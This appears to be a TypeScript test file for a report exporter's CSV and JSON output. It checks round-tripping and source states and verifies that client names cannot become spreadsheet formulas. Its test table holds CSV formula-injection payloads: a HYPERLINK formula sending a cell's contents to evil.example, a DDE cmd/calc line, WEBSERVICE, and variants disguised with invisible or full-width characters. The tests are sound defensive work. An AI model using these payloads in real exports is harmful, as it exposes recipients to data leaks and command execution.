/** Facts as CSV and JSON: what stands there is what was frozen and what the page says, and no name of a client's makes a formula. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { freezeReport } from '../../../activities/reports/facts.ts';
import { factsCsv } from '../../../activities/reports/facts-csv.ts';
import { frozenIn, frozenText } from '../../../activities/reports/frozen-text.ts';
import { appendix } from '../../../activities/reports/page-sections.ts';
import { printedAs } from '../../../activities/reports/printed.ts';
import { valueText } from '../../../activities/reports/fact-text.ts';
import { attribute } from '../../../activities/reports/chart.ts';
import { readCsv } from '../../support/csv-reader.ts';
import { randomReport } from '../../support/report-input.ts';
import type { Fact, FrozenReport } from '../../../workflows/reports/facts.ts';

const HEAD = 'id,label,value,unit,rounding,source,state,missing,measure,span,group,name,better,definition';
const COLUMNS = HEAD.split(',');
const FACT: Fact = {
  id: 'created',
  label: 'tickets created',
  value: 3,
  unit: 'count',
  rounding: 0,
  definition: 'Tickets, "all" of them.',
  source: 'ticket-system',
  about: { measure: 'created', span: 'this' },
};
const COMPLETE: FrozenReport['sources'] = {
  'ticket-system': { kind: 'complete' },
  alerts: { kind: 'complete' },
  ledger: { kind: 'complete' },
};
const holding = (facts: readonly Fact[], sources = COMPLETE): FrozenReport => ({ facts, sources }) as FrozenReport;
const named = (name: string): Fact => ({ ...FACT, about: { ...FACT.about, group: { kind: 'category', name } } });
const linesOf = (frozen: FrozenReport): readonly Readonly<Record<string, string>>[] => {
  const [head, ...lines] = readCsv(factsCsv(frozen));
  assert.deepEqual(head, COLUMNS);
  return lines.map((line) => {
    assert.equal(line.length, COLUMNS.length);
    return Object.fromEntries(line.map((cell, at) => [COLUMNS[at] ?? '', cell]));
  });
};
const nameIn = (name: string): string => linesOf(holding([named(name)]))[0]?.['name'] ?? '';

/** What the guard has put there is taken away again: one mark at each place behind which a formula would begin. */
const unguarded = (cell: string): string =>
  cell
    .split(/(?<=[;\t\r\n])/)
    .map((piece, at) => (piece.startsWith("'") && (isFormula(piece) || (at === 0 && /^'+[\t\r]/.test(piece))) ? piece.slice(1) : piece))
    .join('');
/** Every cell that any of these programs could make of it: by commas, or by whatever else parts cells in some country, quoted or not. */
const piecesOf = (cell: string): readonly string[] => [cell, ...cell.split(/[;\t\r\n]/)];
const FIRST = '[=+\\-@＝＋－＠]';
/** Whether one would be seen if the marks before it were not there; `isLive`: seen with them, whatever is dropped that is not shown. */
const isFormula = (piece: string): boolean =>
  new RegExp(String.raw`^(?:[\s"']|\p{Cc}|\p{Default_Ignorable_Code_Point})*${FIRST}`, 'u').test(piece);
const isLive = (piece: string): boolean =>
  new RegExp(String.raw`^(?:[\s"]|\p{Cc}|\p{Default_Ignorable_Code_Point})*${FIRST}`, 'u').test(piece);

/** Its form is kept: a file that is written again by a later release is the same one. */
test('one line for each fact, in their order, with all that it has', () => {
  const change: Fact = { ...FACT, id: 'created.change', value: -3, better: 'down', about: { ...FACT.about, span: 'change' } };
  const none: Fact = { ...named('E-mail'), id: 'created.category.e-mail', value: null, missing: 'not read' };
  assert.equal(
    factsCsv(holding([FACT, change, none])),
    `${HEAD}\r\ncreated,tickets created,3,count,0,ticket-system,complete,,created,this,,,,"Tickets, ""all"" of them."\r\n` +
      `created.change,tickets created,-3,count,0,ticket-system,complete,,created,change,,,down,"Tickets, ""all"" of them."\r\n` +
      `created.category.e-mail,tickets created,,count,0,ticket-system,no data,not read,created,this,category,E-mail,,"Tickets, ""all"" of them."\r\n`,
  );
});

/** Name, and how its cell begins. */
const HOSTILE: readonly (readonly [name: string, cell: string])[] = [
  ['=HYPERLINK("https://evil.example/?"&A1,"click")', '\'=HYPERLINK("https://evil.example/?"&A1,"click")'],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['-2+3+cmd', "'-2+3+cmd"],
  ['@x', "'@x"],
  ['@SUM(1)', "'@SUM(1)"],
  ['\t=1+1', "'\t'=1+1"],
  ['\rtext', "'\rtext"],
  ['\ttext', "'\ttext"],
  ['\n=1', "\n'=1"],
  [' =1+1', "' =1+1"],
  ['\u00a0=1', "'\u00a0=1"],
  ['\u200b=1', "'\u200b=1"],
  ['\ufeff=1', "'\ufeff=1"],
  ['\u202e=1', "'\u202e=1"],
  ['\0=1', "'\0=1"],
  ['"=1', '\'"=1'],
  ["'=1", "''=1"],
  ['＝1', "'＝1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['＠x', "'＠x"],
  ['a;=WEBSERVICE("x")', 'a;\'=WEBSERVICE("x")'],
  ['a"; "=1', 'a";\' "=1'],
  ['a\t@x', "a\t'@x"],
  ['a\r\n+1', "a\r\n'+1"],
  // What is no formula stays as it is.
  ['Network', 'Network'],
  ['Access, "all" & accounts; none', 'Access, "all" & accounts; none'],
  ["'quoted'", "'quoted'"],
  ['a=b+c-d@e', 'a=b+c-d@e'],
  ['Données ✓ 漢字', 'Données ✓ 漢字'],
  ['two\r\nlines', 'two\r\nlines'],
];
for (const [name, cell] of HOSTILE)
  test(`no formula: ${JSON.stringify(name)}`, () => {
    assert.equal(nameIn(name), cell);
    assert.equal(unguarded(cell), name);
    for (const piece of piecesOf(cell)) assert.ok(!isLive(piece), JSON.stringify(piece));
  });

test('whatever a name is, it comes back equal, and no part of its cell is a formula', () => {
  const sign = fc.constantFrom('=', '+', '-', '@', "'", '"', ';', ',', '\t', '\r', '\n', ' ', 'a', '1', '＝', '\u200b', '\ufeff', '\0');
  const text = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc.array(sign, { maxLength: 9 }).map((signs) => signs.join('')),
  );
  fc.assert(
    fc.property(text, (name) => {
      const cell = nameIn(name);
      assert.equal(unguarded(cell), name);
      for (const piece of piecesOf(cell)) assert.ok(!isLive(piece), JSON.stringify(piece));
    }),
    { numRuns: 5_000 },
  );
});

test('a long row of signs that are not seen takes no time', () => {
  for (const sign of ['\ufeff', '\v', '\f', "'", ' ']) {
    const [, line = []] = readCsv(
      factsCsv(
        holding([
          { ...FACT, label: `${sign.repeat(2_000)}x` },
          { ...FACT, id: 'b', label: `${sign.repeat(2_000)}=1` },
        ]),
      ),
    );
    assert.equal(line[1]?.endsWith('x'), true);
  }
});

test('numbers are numbers: none has a mark before it, and each comes back equal', () => {
  fc.assert(
    fc.property(fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true })), (value) => {
      const cell = linesOf(holding([{ ...FACT, value }]))[0]?.['value'] ?? '';
      assert.match(cell, /^-?\d/);
      assert.equal(Number(cell), value === 0 ? 0 : value);
    }),
    { numRuns: 2_000 },
  );
});

test('of fifty drawn months all facts come back equal, from the CSV and from the JSON', () => {
  for (let seed = 1; seed <= 50; seed += 1) {
    const frozen = freezeReport(randomReport(seed, 60));
    const json = frozenIn(frozenText(frozen));
    assert.deepEqual(json, frozen);
    const lines = linesOf(frozen);
    assert.deepEqual(lines.map(backOf), frozen.facts, `seed ${seed}`);
    assert.equal(factsCsv(frozen), factsCsv(json ?? frozen));
  }
});

function backOf(line: Readonly<Record<string, string>>): unknown {
  const cell = (name: string): string => unguarded(line[name] ?? '');
  const given = (name: string): object => (cell(name) === '' ? {} : { [name]: cell(name) });
  return {
    id: cell('id'),
    label: cell('label'),
    value: line['value'] === '' ? null : Number(line['value']),
    unit: cell('unit'),
    rounding: Number(line['rounding']),
    definition: cell('definition'),
    source: cell('source'),
    about: {
      measure: cell('measure'),
      span: cell('span'),
      ...(cell('group') === '' ? {} : { group: { kind: cell('group'), name: cell('name') } }),
    },
    ...given('better'),
    ...given('missing'),
  };
}

test('a state is that of the source, and of a figure that is not there it is no data', () => {
  const away = { kind: 'unreadable', reason: 'HTTP 503' } as const;
  const frozen = freezeReport({
    ...randomReport(7, 40),
    tickets: away,
    alerts: { kind: 'partial', untilMs: 5, value: [] },
    previousAlerts: away,
  });
  const states = new Map(linesOf(frozen).map(({ id = '', state, value, missing }) => [id, { state, value, missing }]));
  assert.deepEqual(states.get('created'), { state: 'unreadable', value: '', missing: 'HTTP 503' });
  assert.equal(states.get('created.previous')?.state, 'complete');
  assert.deepEqual(states.get('alerts'), { state: 'partial', value: '', missing: 'a source was read in part only' });
  assert.deepEqual(states.get('alerts.previous'), { state: 'no data', value: '', missing: 'HTTP 503' });
  assert.equal(states.get('alerts.change')?.state, 'partial');
  for (const [id, { state, value }] of states) assert.equal(value === '', state !== 'complete', id);
});

test("the JSON has what the page's appendix says: each figure and each definition", () => {
  for (const seed of [1, 5, 7]) {
    const frozen = freezeReport(randomReport(seed, 80));
    const { facts } = JSON.parse(frozenText(frozen)) as FrozenReport;
    const page = appendix({ frozen } as Parameters<typeof appendix>[0]);
    const rows = [...page.matchAll(/<tr><th scope="row">([^<]*)<\/th><td[^>]*>([^<]*)<\/td>/g)].map(([, label, value]) => [label, value]);
    assert.ok(rows.length >= 4);
    for (const row of rows)
      assert.ok(
        facts.some((fact) => attribute(fact.label) === row[0] && attribute(valueText(fact, printedAs(frozen))) === row[1]),
        row.join(': '),
      );
    const defined = new Set(facts.map(({ definition }) => attribute(definition)));
    const said = [...page.matchAll(/<dd>([^<]*)<\/dd>/g)].map(([, text = '']) => text);
    assert.ok(said.length > 5);
    for (const text of said) assert.ok(defined.has(text), text);
  }
});

test('facts that were altered are none', () => {
  const text = frozenText(freezeReport(randomReport(7, 40)));
  for (const other of [text.replace('"client":"northwind"', '"client":"other"'), text.slice(1), '{}', 'null'])
    assert.equal(frozenIn(other), undefined);
});
